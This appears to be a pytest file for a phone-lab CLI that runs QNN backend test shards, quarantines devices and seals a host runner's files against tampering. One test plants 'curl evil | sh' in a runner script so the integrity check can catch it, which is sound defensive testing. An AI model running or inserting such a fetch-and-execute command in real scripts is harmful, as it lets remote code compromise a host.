"""bot/cli/lab.py through click: run-shard with a host config, device check/list, device-matrix."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from qnn_migrate_tests.bot.lab.support import FP, Lab
from qnn_migrate_tests.bot.support import dispatched_shard as _shard

from qnn_migrate.bot.cli import lab as device_cli
from qnn_migrate.bot.lab import quarantine
from qnn_migrate.bot.lab.runner import Runner
from qnn_migrate.bot.model import ShardResult, Status

ABS = f"{FP}.test_qnn_backend_abs"
ADD = f"{FP}.test_qnn_backend_add"


def host_toml(lab: Lab, **extra: str) -> Path:
    lines = [
        f'executorch_dir = "{lab.checkout}"',
        f'python = "{lab.host().python}"',
        f'state_dir = "{lab.state_dir}"',
        "lock_wait_s = 60",
        'lifetime = "ephemeral"',
        'isolation = "none"',
        *(f"{k} = {v}" for k, v in extra.items()),
        "",
        "[[devices]]",
        'serial = "PHONE_A"',
        'soc = "SM8650"',
        "",
        "[[devices]]",
        'serial = "PHONE_B"',
        'soc = "sm8650"',
    ]
    path = lab.root / "host.toml"
    path.write_text("\n".join(lines) + "\n")
    return path


def test_run_shard_from_a_dispatched_entry_with_the_host_config(lab: Lab) -> None:
    lab.scenario(tests={f"{FP}.test_qnn_backend_add": "fail"})
    shard = lab.shard(f"{FP}.test_qnn_backend_abs", f"{FP}.test_qnn_backend_add")
    entry = lab.root / "shard.json"
    entry.write_text(
        json.dumps({"shard": shard.to_dict(), "runs_on": ["self-hosted", "qnn", "sm8650"]})
    )
    out = lab.root / "out"
    env = lab.env() | {"QNN_RUNNER_CONFIG": str(host_toml(lab)), "GITHUB_TOKEN": "must-not-leak"}
    url = "https://github.com/qnn-lab/executorch/actions/runs/99"
    args = ["--shard", str(entry), "--out", str(out), "--log-url", url]
    result = CliRunner().invoke(device_cli.run_shard, args, env=env)
    assert result.exit_code == device_cli.EXIT_FAILED, result.output
    assert "sm8650-m-1: ran 2 of 2 expected tests, 1 passed (1 FAIL)" in result.output
    saved = ShardResult.from_dict(json.loads((out / "result.json").read_text()))
    assert [r.status for r in saved.results] == [Status.PASS, Status.FAIL]
    assert saved.device == "PHONE_A" and saved.log_url == url
    # The test process runs PR code: no token reaches it, even if the host has one.
    assert [entry["secret_env"] for entry in lab.runs_log()] == [[]]


def test_run_shard_exit_codes_for_green_and_refused(lab: Lab) -> None:
    config = host_toml(lab)
    good = lab.root / "good.json"
    good.write_text(json.dumps(lab.shard(f"{FP}.test_qnn_backend_abs").to_dict()))
    args = ["--shard", str(good), "--host-config", str(config), "--out", str(lab.root / "o1")]
    assert CliRunner().invoke(device_cli.run_shard, args, env=lab.env()).exit_code == 0

    moved = lab.root / "moved.json"
    moved.write_text(json.dumps(lab.shard(f"{FP}.test_qnn_backend_abs", sha="c" * 40).to_dict()))
    args = ["--shard", str(moved), "--host-config", str(config), "--out", str(lab.root / "o2")]
    refused = CliRunner().invoke(device_cli.run_shard, args, env=lab.env())
    assert refused.exit_code == device_cli.EXIT_INPUT
    assert "the checkout is wrong or the PR head moved" in refused.output


def test_run_shard_rejects_bad_input_with_the_reason(lab: Lab) -> None:
    bad = lab.root / "bad.json"
    bad.write_text(json.dumps({"id": "x", "tests": ["not a test id"]}))
    result = CliRunner().invoke(device_cli.run_shard, ["--shard", str(bad)], env=lab.env())
    assert result.exit_code == device_cli.EXIT_INPUT
    assert "error:" in result.output

    broken = lab.root / "host.toml"
    broken.write_text('executorch_dir = 3\n[[devices]]\nserial = "a b"\nsoc = "SM8650"\n')
    good = lab.root / "good.json"
    good.write_text(json.dumps(lab.shard(f"{FP}.test_qnn_backend_abs").to_dict()))
    result = CliRunner().invoke(
        device_cli.run_shard, ["--shard", str(good), "--host-config", str(broken)]
    )
    assert result.exit_code == device_cli.EXIT_INPUT
    assert "characters adb serials never use" in result.output


def _written(out: Path) -> set[str]:
    """What a run wrote under ``out``: each file's name and each folder's (``attempt-N/``
    for any attempt); what the harness wrote in ``artifacts/`` is the harness's, not named."""
    names: set[str] = set()
    for path in out.rglob("*"):
        parts = path.relative_to(out).parts
        folders = ["attempt-N" if p.startswith("attempt-") else p for p in parts[:-1]]
        names |= {f"{p}/" for p in folders}
        if "artifacts" not in folders:
            names.add(f"{parts[-1]}/" if path.is_dir() else parts[-1])
    return {n.replace("attempt-1/", "attempt-N/") for n in names}


def _unnamed(names: set[str], text: str) -> list[str]:
    return sorted(n for n in names if n not in text)


def test_run_shard_help_and_the_docs_name_every_file_it_writes(lab: Lab) -> None:
    """Issue 29 found programs.json missing from `run-shard --help`: every file a phone run
    writes into --out is named there, and in docs/runners.md's "What run-shard does"."""
    lab.scenario(tests={ADD: "fail"})
    shard = lab.root / "one.json"
    shard.write_text(json.dumps(lab.shard(ABS, ADD).to_dict()))
    out = lab.root / "out"
    args = ["--shard", str(shard), "--host-config", str(host_toml(lab)), "--out", str(out)]
    ran = CliRunner().invoke(device_cli.run_shard, args, env=lab.env())
    assert ran.exit_code == device_cli.EXIT_FAILED, ran.output
    written = _written(out)
    # (host-check.json too, with a job user: tests/bot/lab/test_job_user.py)
    assert {"result.json", "junit.xml", "programs.json", "stderr.txt"} <= written
    said = CliRunner().invoke(device_cli.run_shard, ["--help"], terminal_width=100).output
    docs = (Path(__file__).parents[3] / "docs" / "runners.md").read_text(encoding="utf-8")
    section = docs.split("## What `run-shard` does", 1)[1].split("\n## ", 1)[0]
    assert _unnamed(written, said) == []
    assert _unnamed(written, section) == []
    # Control: a name neither gives is found.
    assert _unnamed(written | {"planted.json"}, said) == ["planted.json"]
    assert _unnamed(written | {"planted.json"}, section) == ["planted.json"]


def test_device_check_lifts_quarantine_and_list_shows_it(lab: Lab) -> None:
    config = host_toml(lab)
    quarantine.put(lab.state_dir, "PHONE_A", "adb command failed")
    listed = CliRunner().invoke(
        device_cli.device, ["list", "--host-config", str(config)], env=lab.env()
    )
    rows = [json.loads(line) for line in listed.output.splitlines()]
    assert [(r["serial"], r["quarantined"]) for r in rows] == [
        ("PHONE_A", True),
        ("PHONE_B", False),
    ]

    ok = CliRunner().invoke(
        device_cli.device,
        ["check", "--serial", "PHONE_A", "--host-config", str(config)],
        env=lab.env(),
    )
    assert ok.exit_code == 0, ok.output
    assert json.loads(ok.output)["quarantine_lifted"] is True
    assert quarantine.get(lab.state_dir, "PHONE_A") is None

    lab.scenario(devices={"PHONE_A": {"state": "unauthorized"}})
    bad = CliRunner().invoke(
        device_cli.device,
        ["check", "--serial", "PHONE_A", "--host-config", str(config)],
        env=lab.env(),
    )
    assert bad.exit_code == device_cli.EXIT_FAILED
    assert "unauthorized" in json.loads(bad.output)["reason"]
    assert quarantine.get(lab.state_dir, "PHONE_A") is not None


def test_device_matrix_command_prints_github_outputs(tmp_path: Path) -> None:
    shards = tmp_path / "s.json"
    shards.write_text(json.dumps([_shard().to_dict()]))
    result = CliRunner().invoke(
        device_cli.device_matrix, ["--shards-file", str(shards), "--sha", "a" * 40, "--pr", "7"]
    )
    assert result.exit_code == 0, result.output
    lines = dict(line.split("=", 1) for line in result.output.splitlines())
    assert set(lines) == {"matrix", "shards", "count"} and lines["count"] == "1"
    assert json.loads(lines["matrix"])["include"][0]["soc"] == "sm8650"
    wrong = CliRunner().invoke(
        device_cli.device_matrix, ["--shards-file", str(shards), "--sha", "c" * 40]
    )
    assert wrong.exit_code == device_cli.EXIT_INPUT and "not the run's cccccccccccc" in wrong.output


def test_a_crash_of_the_runner_itself_still_writes_an_infra_result(
    lab: Lab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from click.testing import CliRunner

    from qnn_migrate.bot.cli import lab as device_cli

    def broken(self: Runner, shard: object) -> None:
        raise OSError("No space left on device")

    monkeypatch.setattr(Runner, "run", broken)
    shard_file = tmp_path / "shard.json"
    shard_file.write_text(json.dumps(lab.shard(ABS, ADD).to_dict()))
    out = tmp_path / "out"
    ran = CliRunner().invoke(
        device_cli.run_shard, ["--shard", str(shard_file), "--out", str(out)], env=lab.env()
    )
    assert ran.exit_code == 1, ran.output
    doc = json.loads((out / "result.json").read_text())
    assert [r["status"] for r in doc["results"]] == ["INFRA", "INFRA"]
    assert "the runner itself failed: OSError: No space left on device" in doc["infra_reason"]


def test_host_seal_and_check_find_a_changed_runner_file(lab: Lab) -> None:
    runner_install = lab.root / "actions-runner"
    runner_install.mkdir()
    (runner_install / "run.sh").write_text("#!/bin/sh\n")
    manifest = lab.root / "seal" / "manifest.json"
    config = host_toml(
        lab,
        integrity_manifest=f'"{manifest}"',
        trusted_paths=f'["{runner_install}"]',
    )
    args = ["--host-config", str(config)]
    sealed = CliRunner().invoke(device_cli.host, ["seal", *args])
    assert sealed.exit_code == 0 and "sealed 3 entries under 2 trusted path(s)" in sealed.output
    assert CliRunner().invoke(device_cli.host, ["check", *args]).output.startswith("ok:")
    (runner_install / "run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    checked = CliRunner().invoke(device_cli.host, ["check", *args])
    assert checked.exit_code == 1
    assert f"changed: {runner_install / 'run.sh'}" in checked.output
    assert "reprovision the host" in checked.output
    inside = host_toml(
        lab,
        integrity_manifest=f'"{runner_install / "m.json"}"',
        trusted_paths=f'["{runner_install}"]',
    )
    refused = CliRunner().invoke(device_cli.host, ["seal", "--host-config", str(inside)])
    assert refused.exit_code != 0 and "is inside the trusted path" in refused.output
